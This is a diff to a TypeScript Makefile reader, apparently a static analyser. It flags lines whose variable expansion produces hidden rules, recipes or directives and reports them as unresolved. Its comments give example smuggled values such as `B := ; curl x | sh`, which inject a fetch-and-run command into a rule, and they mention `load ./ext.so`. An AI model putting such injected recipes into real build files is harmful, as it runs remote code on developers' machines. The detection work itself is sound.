@@ -241,7 +241,11 @@ class Reader {
     const colon = ruleColon(text);
     if (colon < 0) {
       // A line that is only a function call (`$(eval ...)`, `$(info ...)`): expanded for its effects.
-      expand(text, this.ctx(where));
+      // make reads the text it expands to as a line of the Makefile: `$(R)` with `R := test: ; curl x | sh`
+      // is a rule (it replaces test's recipe). Text left after the expansion is a rule, an assignment or a
+      // directive this reader does not follow (`load ./ext.so` runs a shared object's code): unknown.
+      const left = expand(text, this.ctx(where)).trim();
+      if (left) this.db.problems.push({ why: `${where.file}:${where.line}: the line ${text.trim().slice(0, 80)} expands to text make reads as a rule, an assignment or a directive (${left.slice(0, 80)}), which is not followed`, where });
       return undefined;
     }
     return this.rule(text, colon, where);
@@ -366,7 +370,9 @@ class Reader {
     const doubleColon = text[colon + 1] === ':';
     const targets = words(expand(text.slice(0, colon), this.ctx(where)));
     let rest = text.slice(colon + (doubleColon ? 2 : 1));
-    if (!targets.length) return undefined;
+    // A rule line whose targets expand to nothing (`$(SUBPROJECTS:%=%_lint):` with none): make still takes
+    // the recipe lines after it as that rule's, and drops them. An empty list keeps them recipe lines.
+    if (!targets.length) return [];
     // `target: VAR = value`: a target-specific variable.
     const specific = /^\s*((?:(?:export|override|private)\s+)*)(.*)$/.exec(rest)!;
     const assignment = splitAssignment(specific[2]);
@@ -396,11 +402,18 @@ class Reader {
     const prereqs = words(expand(bar >= 0 ? rest.slice(0, bar) : rest, this.ctx(where)));
     const orderOnly = bar >= 0 ? words(expand(rest.slice(bar + 1), this.ctx(where))) : [];
     const recipe = inline !== undefined ? [{ text: inline.replace(/^\s+/, ''), where }] : undefined;
+    // make looks for `;` again in the expanded line: `test: $(B)` with `B := ; curl x | sh` is a rule whose
+    // recipe is the text after it; a `:` in an expanded target splits the line too. Not read here: unknown.
+    const split = [...targets, ...prereqs, ...orderOnly].find((w) => /;/.test(w)) ?? targets.find((w) => /:/.test(w));
+    if (split !== undefined) {
+      this.db.problems.push({ why: `${where.file}:${where.line}: the rule line ${text.trim().slice(0, 80)} expands to ${split}, where make splits the line differently than it is written: not followed`, where });
+      return [];
+    }
 
-    if (targets.includes('.PHONY')) { prereqs.forEach((p) => this.db.phony.add(p)); return undefined; }
-    if (targets.includes('.ONESHELL')) { this.db.oneShell = true; return undefined; }
-    if (targets.includes('.EXPORT_ALL_VARIABLES')) { this.db.exportAll = true; return undefined; }
-    if (targets.every((t) => SPECIAL_TARGETS.has(t))) return undefined;
+    if (targets.includes('.PHONY')) { prereqs.forEach((p) => this.db.phony.add(p)); return []; }
+    if (targets.includes('.ONESHELL')) { this.db.oneShell = true; return []; }
+    if (targets.includes('.EXPORT_ALL_VARIABLES')) { this.db.exportAll = true; return []; }
+    if (targets.every((t) => SPECIAL_TARGETS.has(t))) return [];
 
     const made: Rule[] = [];
     if (staticPattern) {
@@ -423,7 +436,7 @@ class Reader {
         for (const r of made) r.recipe = shared;
         return [made[0]];
       }
-      return made.length ? made : undefined;
+      return made;
     }
     if (targets.some((t) => t.includes('%'))) {
       const rule: Rule = { targets: targets.filter((t) => t.includes('%')), prereqs, orderOnly, recipe, doubleColon, where };
